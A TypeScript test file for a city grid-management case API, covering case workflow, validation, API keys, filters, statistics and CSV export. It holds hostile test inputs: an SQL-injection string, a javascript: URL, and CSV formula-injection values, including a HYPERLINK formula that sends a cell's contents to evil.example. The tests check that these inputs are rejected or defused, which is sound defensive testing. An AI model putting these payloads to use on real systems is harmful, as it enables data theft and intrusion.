/** The case API with fastify inject, on both backends: answers, 400s naming the field, 404s, 409s, keys and CSV. */
import Fastify, { type FastifyInstance } from 'fastify';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { eachFreshStore } from '../testing/store-backends.ts';
import type { CaseDocument } from '../../domain/cases/cases.ts';
import type { CaseStore } from './case-store.ts';
import { registerCaseRoutes } from './routes.ts';
import { caseBackends } from './testing/backends.ts';
import { openGridStore, type GridStore } from '../grids/grid-store.ts';
import type { GridInput, Position } from '../../domain/grids/grids.ts';

const KEY = 'test-write-key';
const NOW = Date.parse('2026-12-06T10:00:00+08:00');

const REPORT = { source: 'grid-worker', classId: 'component:0101', gridCode: '44060400100101', description: '上水井盖缺失', address: '禅城区祖庙路1号', lon: 113.12, lat: 23.03, reporter: '网格员李四' };

const square = (west: number, south: number, size = 0.01): Position[] => [[west, south], [west + size, south], [west + size, south + size], [west, south + size], [west, south]];
/** Two unit grids sharing the edge lon = 113.13, in one community. */
const GRIDS: GridInput[] = [
  { code: '440604001001', name: '普君社区', geometry: { type: 'Polygon', coordinates: [square(113.12, 23.02, 0.02)] } },
  { code: '44060400100102', name: '二号网格', geometry: { type: 'Polygon', coordinates: [square(113.13, 23.02)] } },
  { code: '44060400100101', name: '一号网格', geometry: { type: 'Polygon', coordinates: [square(113.12, 23.02)] } },
];

const BACKENDS = await caseBackends('case-routes');

describe.each(BACKENDS)('case API on $name', (backend) => {
  let app: FastifyInstance;
  let store: CaseStore;
  let clock = NOW;

  eachFreshStore(backend, async (fresh) => {
    ({ store } = fresh);
    clock = NOW;
    app = Fastify();
    registerCaseRoutes(app, { store, apiKeys: [KEY], now: () => clock });
    await app.ready();
  });
  afterEach(async () => {
    await app?.close();
  });

  const post = async (url: string, body: unknown, key: string | null = KEY) => {
    const response = await app.inject({ method: 'POST', url, headers: key ? { 'x-api-key': key } : {}, ...(typeof body === 'string' ? { payload: body, headers: { 'content-type': 'application/json', ...(key ? { 'x-api-key': key } : {}) } } : { payload: body as object }) });
    return { status: response.statusCode, body: response.json() as Record<string, unknown>, headers: response.headers };
  };
  const get = async (url: string) => {
    const response = await app.inject({ method: 'GET', url });
    return { status: response.statusCode, body: (String(response.headers['content-type'] ?? '').startsWith('application/json') ? response.json() : response.body) as Record<string, unknown>, text: response.body, headers: response.headers };
  };
  const act = (id: string, action: string, extra: Record<string, unknown> = {}) => post(`/api/cases/${id}/actions`, { action, by: '操作员', ...extra });

  it("makes a case of a grid worker's report, and reads it back with its log", async () => {
    const created = await post('/api/cases', REPORT);
    expect(created.status).toBe(201);
    expect(created.headers.location).toBe('/api/cases/AJ1');
    expect(created.body).toMatchObject({ id: 'AJ1', status: 'collected', classId: 'component:0101', overdue: false, allowedActions: ['file'], createdAt: new Date(NOW).toISOString() });
    const read = await get('/api/cases/AJ1');
    expect(read.body).toEqual(created.body);
    expect((read.body as unknown as CaseDocument).log).toEqual([{ action: 'collect', to: 'collected', by: '网格员李四', at: new Date(NOW).toISOString() }]);
  });

  it('makes cases of a 12345 complaint and of a monitoring incident, the class following the incident type', async () => {
    expect((await post('/api/cases', { ...REPORT, source: 'hotline-12345', hotlineTicket: 'GD20261206-0001', reporter: '12345坐席' })).body).toMatchObject({ source: 'hotline-12345', hotlineTicket: 'GD20261206-0001' });
    const incident = await post('/api/cases', { source: 'monitoring', incidentId: 42, incidentType: 'gas-leak', gridCode: '44060400100102', description: '燃气泄漏报警', lon: 113.121, lat: 23.031, reporter: '监测值班员', assetIds: ['G-V12', 'MH-3'] });
    expect(incident.status).toBe(201);
    expect(incident.body).toMatchObject({ source: 'monitoring', incidentId: '42', classId: 'event:0403', gridCode: '44060400100102', lon: 113.121, lat: 23.031, assetIds: ['G-V12', 'MH-3'] });
  });

  it('runs report → filed → dispatched → handled → sent back → handled → checked → closed, each step read back', async () => {
    const { body } = await post('/api/cases', REPORT);
    const id = body.id as string;
    const steps: [string, Record<string, unknown>, string, string[]][] = [
      ['file', {}, 'filed', ['dispatch']],
      ['dispatch', { department: '区水务局' }, 'dispatched', ['handle']],
      ['handle', { note: '已补装井盖' }, 'handled', ['check', 'send-back']],
      ['send-back', { note: '井盖型号不符' }, 'dispatched', ['handle']],
      ['handle', {}, 'handled', ['check', 'send-back']],
      ['check', {}, 'checked', ['close']],
      ['close', {}, 'closed', []],
    ];
    for (const [action, extra, status, allowed] of steps) {
      clock += 10 * 60_000;
      const result = await act(id, action, extra);
      expect(result.status, `${action}: ${JSON.stringify(result.body)}`).toBe(200);
      const read = (await get(`/api/cases/${id}`)).body as unknown as CaseDocument;
      expect(read).toMatchObject({ status, allowedActions: allowed, updatedAt: new Date(clock).toISOString() });
      expect(read.log!.at(-1)).toMatchObject({ action, to: status, by: '操作员', at: new Date(clock).toISOString(), ...extra });
    }
    const final = (await get(`/api/cases/${id}`)).body as unknown as CaseDocument;
    // component:0101 allows 4 hours from dispatch (case-classes.json).
    expect(final).toMatchObject({ department: '区水务局', dueAt: new Date(NOW + 20 * 60_000 + 4 * 3_600_000).toISOString(), overdue: false });
    expect(final.log).toHaveLength(8);
  });

  it.each([
    ['no body', undefined, /^body: /],
    ['a missing field', { ...REPORT, reporter: undefined }, /^reporter: /],
    ['an unknown source', { ...REPORT, source: 'wechat' }, /^source: /],
    ['a key of its own', { ...REPORT, status: 'closed' }, /^status: /],
    ['text for a number', { ...REPORT, lon: '113.12' }, /^lon: /],
    ['a longitude off the earth', { ...REPORT, lon: 200 }, /^lon: /],
    ['an unknown class', { ...REPORT, classId: 'event:9999' }, /^classId: unknown class "event:9999"/],
    ['an unknown grid code', { ...REPORT, gridCode: '110101001001' }, /^gridCode: grid code 110101001001: county-level division 110101/],
    ['a grid code of a street', { ...REPORT, gridCode: '440604001' }, /^gridCode: .*names a street/],
    ['a 12345 complaint without its ticket', { ...REPORT, source: 'hotline-12345' }, /^hotlineTicket: required/],
    ['a monitoring case without its incident', { ...REPORT, source: 'monitoring' }, /^incidentId: required/],
    ['a javascript: attachment', { ...REPORT, attachmentUrl: 'javascript:alert(1)' }, /^attachmentUrl: must be an http or https URL/],
    ['an empty reporter', { ...REPORT, reporter: '   ' }, /^reporter: must not be empty/],
    ['JSON nested 100 deep', `{"a":${'['.repeat(100)}${']'.repeat(100)}}`, /nests objects and arrays more than 32 deep/],
  ])('refuses a new case with %s: 400 naming the field, nothing stored', async (_name, body, message) => {
    const response = await post('/api/cases', body);
    expect(response.status).toBe(400);
    expect(response.body.message).toMatch(message);
    expect(await store.count()).toBe(0);
  });

  it('needs the write key for every write, and stores nothing without it', async () => {
    expect((await post('/api/cases', REPORT, null)).status).toBe(401);
    expect((await post('/api/cases', REPORT, 'wrong-key')).status).toBe(401);
    expect(await store.count()).toBe(0);
    await post('/api/cases', REPORT);
    expect((await post('/api/cases/AJ1/actions', { action: 'file', by: 'x' }, null)).status).toBe(401);
    expect(((await get('/api/cases/AJ1')).body as unknown as CaseDocument).status).toBe('collected');
  });

  it('answers an unknown case with a 404, and a forbidden action with a 409 naming the allowed ones, changing nothing', async () => {
    expect(await get('/api/cases/AJ404')).toMatchObject({ status: 404, body: { message: 'no case "AJ404"' } });
    expect(await act('AJ404', 'file')).toMatchObject({ status: 404 });
    expect(await act('nonsense', 'file')).toMatchObject({ status: 404 });
    await post('/api/cases', REPORT);
    const before = (await get('/api/cases/AJ1')).body;
    clock += 60_000;
    const forbidden = await act('AJ1', 'close');
    expect(forbidden.status).toBe(409);
    expect(forbidden.body.message).toMatch(/cannot close a case that is collected .*allowed actions: file$/);
    expect((await act('AJ1', 'dispatch', { department: '城管' })).body.message).toMatch(/allowed actions: file$/);
    expect(await act('AJ1', 'fly')).toMatchObject({ status: 400, body: { message: expect.stringMatching(/^action: /) } });
    expect(await post('/api/cases/AJ1/actions', { action: 'file' })).toMatchObject({ status: 400, body: { message: expect.stringMatching(/^by: /) } });
    expect((await get('/api/cases/AJ1')).body).toEqual(before);
    await act('AJ1', 'file');
    expect(await act('AJ1', 'dispatch')).toMatchObject({ status: 400, body: { message: expect.stringMatching(/^department: required to dispatch/) } });
    expect(((await get('/api/cases/AJ1')).body as unknown as CaseDocument).log).toHaveLength(2);
  });

  it('lists with filters and links the next page', async () => {
    for (const gridCode of ['44060400100101', '44060400100102', '44060400100101']) await post('/api/cases', { ...REPORT, gridCode });
    await act('AJ3', 'file');
    const first = await get('/api/cases?area=440604001001&limit=2');
    expect((first.body.cases as CaseDocument[]).map((c) => c.id)).toEqual(['AJ3', 'AJ2']);
    expect(first.body.next).toBe('/api/cases?area=440604001001&limit=2&offset=2');
    const second = await get(first.body.next as string);
    expect((second.body.cases as CaseDocument[]).map((c) => c.id)).toEqual(['AJ1']);
    expect(second.body.next).toBeUndefined();
    expect((await get('/api/cases?grid=44060400100101&status=open')).body.cases).toHaveLength(2);
    expect(((await get('/api/cases?status=filed')).body.cases as CaseDocument[]).map((c) => c.id)).toEqual(['AJ3']);
    expect((await get('/api/cases?class=component%3A0101&overdue=false')).body.cases).toHaveLength(3);
  });

  it.each([
    ['/api/cases?gird=44060400100101', /^gird: not a parameter here/],
    ['/api/cases?grid=1&grid=2', /^grid: give it once/],
    ['/api/cases?limit=abc', /^limit: must be a whole number/],
    ['/api/cases?limit=5000', /^limit: must be an integer from 1 to 1000/],
    ['/api/cases?overdue=yes', /^overdue: must be true or false/],
    ['/api/cases?status=archived', /^status: unknown status "archived"/],
    [`/api/cases?area=${encodeURIComponent("4406' OR 1=1 --")}`, /^area: /],
    ['/api/cases/statistics?day=2026-02-30', /^day: "2026-02-30" is not a calendar date/],
    ['/api/cases/statistics?grid=440604', /^grid: grid code 440604 names a district/],
    ['/api/cases?bbox=113,23,114', /^bbox: give west,south,east,north/],
    ['/api/cases?bbox=114,23,113,24', /^bbox: .*west 114 is east of east 113/],
    ['/api/cases?incidentId=', /^incidentId: 1–50 characters/],
  ])('answers %s with a 400 naming the parameter', async (url, message) => {
    const response = await get(url);
    expect(response.status).toBe(400);
    expect(response.body.message).toMatch(message);
  });

  it("gives today's statistics in Beijing time by default", async () => {
    await post('/api/cases', REPORT);
    await act('AJ1', 'file');
    const today = await get('/api/cases/statistics');
    expect(today.body).toMatchObject({ day: '2026-12-06', filed: 1, closed: 0, closureRate: 0, open: 1 });
    // 23:59:59 UTC on the 6th is already the 7th in Beijing: the case was filed "yesterday".
    clock = Date.parse('2026-12-06T23:59:59Z');
    expect((await get('/api/cases/statistics')).body).toMatchObject({ day: '2026-12-07', filed: 0, closureRate: null });
    expect((await get('/api/cases/statistics?day=2026-12-06&grid=44060400100101')).body).toMatchObject({ filed: 1 });
  });

  it('exports CSV with formula text defused, while the API returns the text as stored', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
    await post('/api/cases', { ...REPORT, description: evil, address: '+86-757 @home', reporter: '-李四', hotlineTicket: undefined });
    await post('/api/cases', { ...REPORT, description: '\t=1+1', address: '\r=cmd', reporter: '@王五' });
    expect(((await get('/api/cases/AJ1')).body as unknown as CaseDocument).description).toBe(evil);
    const csv = await get('/api/cases.csv?grid=44060400100101');
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['x-cases-truncated']).toBe('false');
    expect(csv.text.startsWith('\uFEFF案卷号 id,状态 status,')).toBe(true);
    const rows = csv.text.slice(1).trimEnd().split('\r\n');
    expect(rows).toHaveLength(3);
    expect(rows[2]).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")"`);
    expect(rows[2]).toContain(`"'+86-757 @home"`);
    expect(rows[2]).toContain(`"'-李四"`);
    expect(rows[1]).toContain(`"'\t=1+1"`);
    expect(rows[1]).toContain(`"'\r=cmd"`);
    expect(rows[1]).toContain(`"'@王五"`);
    // No cell of any row starts with a formula character outside quotes-and-apostrophe.
    for (const row of rows) expect(row).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
  });

  it('finds the case of a monitoring incident, and the cases in a bbox', async () => {
    await post('/api/cases', { ...REPORT, source: 'monitoring', incidentId: 7, incidentType: 'gas-leak', classId: undefined });
    await post('/api/cases', { ...REPORT, lon: 113.2 });
    await post('/api/cases', { ...REPORT, source: 'monitoring', incidentId: '8', incidentType: 'gas-leak', classId: undefined, lon: 113.13 });
    expect(((await get('/api/cases?incidentId=7')).body.cases as CaseDocument[]).map((c) => c.id)).toEqual(['AJ1']);
    expect((await get('/api/cases?incidentId=9')).body.cases).toEqual([]);
    expect(((await get('/api/cases?bbox=113.11,23.02,113.13,23.04')).body.cases as CaseDocument[]).map((c) => c.id)).toEqual(['AJ3', 'AJ1']);
    expect(((await get('/api/cases?bbox=113.15,23,113.25,23.1')).body.cases as CaseDocument[]).map((c) => c.id)).toEqual(['AJ2']);
  });

  describe('with a grid store', () => {
    let grids: GridStore;
    let gridApp: FastifyInstance;
    beforeEach(async () => {
      grids = await openGridStore(':memory:');
      await grids.replaceAll(GRIDS);
      gridApp = Fastify();
      registerCaseRoutes(gridApp, { store, apiKeys: [KEY], now: () => clock, grids });
      await gridApp.ready();
    });
    afterEach(async () => {
      await gridApp?.close();
      await grids?.close();
    });
    const create = async (body: unknown) => {
      const response = await gridApp.inject({ method: 'POST', url: '/api/cases', headers: { 'x-api-key': KEY }, payload: body as object });
      return { status: response.statusCode, body: response.json() as Record<string, unknown> };
    };

    it('places a case with no grid code in the unit grid covering its place; on a shared edge, the lowest code', async () => {
      expect((await create({ ...REPORT, gridCode: undefined, lon: 113.135, lat: 23.025 })).body).toMatchObject({ status: 'collected', gridCode: '44060400100102' });
      expect((await create({ ...REPORT, gridCode: undefined, lon: 113.13, lat: 23.025 })).body).toMatchObject({ gridCode: '44060400100101' });
      // Inside the community but in no unit grid: the community.
      expect((await create({ ...REPORT, gridCode: undefined, lon: 113.125, lat: 23.035 })).body).toMatchObject({ gridCode: '440604001001' });
      // A code given is kept.
      expect((await create({ ...REPORT, gridCode: '44060400100101', lon: 113.135, lat: 23.025 })).body).toMatchObject({ gridCode: '44060400100101' });
      expect(await store.count()).toBe(4);
    });

    it('refuses a grid code the grid store does not hold, and a place no grid covers, storing nothing', async () => {
      const unknown = await create({ ...REPORT, gridCode: '44060400100109' });
      expect(unknown).toMatchObject({ status: 400, body: { message: expect.stringMatching(/^gridCode: unknown grid 44060400100109/) } });
      const nowhere = await create({ ...REPORT, gridCode: undefined, lon: 113.5, lat: 23.5 });
      expect(nowhere).toMatchObject({ status: 400, body: { message: expect.stringMatching(/^gridCode: required: no unit grid or community of the grid store covers \(113\.5, 23\.5\)/) } });
      expect(await store.count()).toBe(0);
    });
  });

  it('needs a grid code without a grid store', async () => {
    const response = await post('/api/cases', { ...REPORT, gridCode: undefined });
    expect(response).toMatchObject({ status: 400, body: { message: expect.stringMatching(/^gridCode: required/) } });
  });

  it('serves the classes', async () => {
    const classes = await get('/api/cases/classes');
    expect(classes.body.events).toEqual(expect.arrayContaining([expect.objectContaining({ major: '04', zh: '突发事件' })]));
  });
});
